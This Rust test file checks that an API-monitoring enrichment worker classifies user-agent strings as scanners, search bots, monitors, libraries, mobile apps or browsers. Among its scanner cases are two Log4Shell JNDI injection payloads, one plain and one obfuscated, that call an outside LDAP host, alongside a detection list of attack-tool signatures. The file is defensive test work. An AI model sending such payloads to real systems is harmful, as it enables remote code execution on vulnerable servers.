//! User-agent classes on real agents: scanners (from the CRS list and beyond), search bots,
//! monitors, libraries, mobile apps, browsers. Browser and bot agents are taken from the
//! elastic/examples Apache log and the vendors' published strings.

mod common;

use apiwatch_core::{EventData, UaClass};
use apiwatch_enrich::{EnrichConfig, EnrichWorker};
use common::worker;
use UaClass::*;

const CASES: &[(&str, UaClass)] = &[
    // Scanners and attack tools.
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", Scanner),
    ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", Scanner),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Scanner),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", Scanner),
    ("Mozilla/5.0 zgrab/0.x", Scanner),
    ("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", Scanner),
    ("gobuster/3.6", Scanner),
    ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", Scanner),
    ("Fuzz Faster U Fool v2.1.0-dev", Scanner),
    ("Wfuzz/3.1.0", Scanner),
    ("feroxbuster/2.10.1", Scanner),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", Scanner),
    ("Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)", Scanner),
    ("Mozilla/4.0 (Hydra)", Scanner),
    ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)", Scanner),
    ("WhatWeb/0.5.5", Scanner),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 (Burp Suite)", Scanner),
    ("${jndi:ldap://203.0.113.5:1389/Exploit}", Scanner),
    ("Mozilla/5.0 ${${lower:j}ndi:${lower:l}dap://x.example/a}", Scanner),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 sqlmap", Scanner),
    // Search engines and well-known crawlers.
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", SearchBot),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 6_0 like Mac OS X) AppleWebKit/536.26 (KHTML, like Gecko) Version/6.0 Mobile/10A5376e Safari/8536.25 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", SearchBot),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", SearchBot),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", SearchBot),
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", SearchBot),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", SearchBot),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", SearchBot),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", SearchBot),
    ("Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)", SearchBot),
    ("Mozilla/5.0 (compatible; AhrefsBot/5.0; +http://ahrefs.com/robot/)", SearchBot),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", SearchBot),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)", SearchBot),
    ("msnbot/2.0b (+http://search.msn.com/msnbot.htm)", SearchBot),
    // An unknown crawler that follows the convention of a URL in its agent.
    ("Mozilla/5.0 (compatible; SiteExplorer/1.0b; +http://siteexplorer.info/)", SearchBot),
    // Health checks and monitoring.
    ("kube-probe/1.28", Monitor),
    ("ELB-HealthChecker/2.0", Monitor),
    ("GoogleHC/1.0", Monitor),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", Monitor),
    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", Monitor),
    ("Datadog Agent/7.50.0", Monitor),
    ("Consul Health Check", Monitor),
    ("Blackbox Exporter/0.24.0", Monitor),
    ("check_http/v2.3.3 (nagios-plugins 2.3.3)", Monitor),
    // Libraries and command-line tools.
    ("curl/8.4.0", Library),
    ("curl/7.22.0 (i686-pc-linux-gnu) libcurl/7.22.0 OpenSSL/1.0.1 zlib/1.2.3.4 libidn/1.23 librtmp/2.3", Library),
    ("Wget/1.21.4", Library),
    ("python-requests/2.31.0", Library),
    ("Python-urllib/2.7", Library),
    ("Python/3.11 aiohttp/3.9.1", Library),
    ("python-httpx/0.25.2", Library),
    ("Go-http-client/1.1", Library),
    ("okhttp/4.12.0", Library),
    ("Java/17.0.9", Library),
    ("Apache-HttpClient/4.5.14 (Java/17.0.9)", Library),
    ("axios/1.6.2", Library),
    ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", Library),
    ("PostmanRuntime/7.36.0", Library),
    ("LWP::Simple/5.827 libwww-perl/5.833", Library),
    ("Ruby", Library),
    ("Faraday v2.7.11", Library),
    ("GuzzleHttp/7", Library),
    ("HTTPie/3.2.2", Library),
    ("Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)", Library),
    ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) PhantomJS/1.9.2 Safari/534.34", Library),
    // Native apps.
    ("MyApp/2.3 (iPhone; iOS 17.1; Scale/3.00)", MobileApp),
    ("Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)", MobileApp),
    ("Dalvik/1.6.0 (Linux; U; Android 4.1.2; GT-I8190 Build/JZO54K)", MobileApp),
    ("ShopApp/5.12.0 (com.example.shop; build:5120; iOS 17.2.1) Alamofire/5.8.1", MobileApp),
    ("Reeder/2.1.1 CFNetwork/672.0.8 Darwin/14.0.0", MobileApp),
    ("Instagram 3.0.4 Android (8/2.2.1; 240dpi; 480x800; HTC/verizon_wwe; ADR6400L; mecha; mecha; en_US)", MobileApp),
    // Browsers, desktop and mobile.
    ("Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.107 Safari/537.36", Browser),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0", Browser),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:27.0) Gecko/20100101 Firefox/27.0", Browser),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.73.11 (KHTML, like Gecko) Version/7.0.1 Safari/537.73.11", Browser),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1", Browser),
    ("Mozilla/5.0 (iPad; CPU OS 7_0_4 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Version/7.0 Mobile/11B554a Safari/9537.53", Browser),
    ("Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", Browser),
    ("Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", Browser),
    ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", Browser),
    ("Opera/9.80 (X11; Linux x86_64) Presto/2.12.388 Version/12.16", Browser),
    // Nothing, and things that say nothing.
    ("-", Empty),
    ("", Empty),
    ("Mozilla/4.0 (compatible;)", Other),
    ("portscout/0.8.1", Other),
    ("Zapier", Other),
    ("Feedbin - 1 subscribers", Other),
];

fn class_of(w: &mut EnrichWorker, agent: &str) -> Option<UaClass> {
    let mut ev = EventData { user_agent: Some(agent.into()), ..EventData::default() };
    w.enrich(&mut ev);
    ev.user_agent_class
}

#[test]
fn real_user_agents_get_their_class() {
    assert!(CASES.len() >= 40);
    let mut w = worker(&EnrichConfig::default());
    let wrong: Vec<String> = CASES
        .iter()
        .filter_map(|&(agent, want)| {
            let got = class_of(&mut w, agent);
            (got != Some(want)).then(|| format!("{agent:?}: got {got:?}, want {want:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
    // Every class is exercised.
    for class in UaClass::ALL {
        assert!(CASES.iter().any(|&(_, c)| c == class), "{class:?} has no case");
    }
}

#[test]
fn every_crs_scanner_phrase_is_a_scanner_inside_a_browser_agent() {
    let mut w = worker(&EnrichConfig::default());
    let list = include_str!("../data/scanners-user-agents.data");
    let mut n = 0;
    for phrase in list.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
        let agent = format!(
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0 {phrase}"
        );
        assert_eq!(class_of(&mut w, &agent), Some(Scanner), "{phrase}");
        n += 1;
    }
    assert!(n >= 78, "the CRS list has 78 phrases; {n} read");
}

#[test]
fn classes_are_cached_per_agent() {
    let mut w = worker(&EnrichConfig::default());
    for _ in 0..5 {
        class_of(&mut w, "curl/8.4.0");
    }
    let s = w.stats().ua_cache;
    assert_eq!((s.hits, s.misses, s.entries), (4, 1, 1));
}
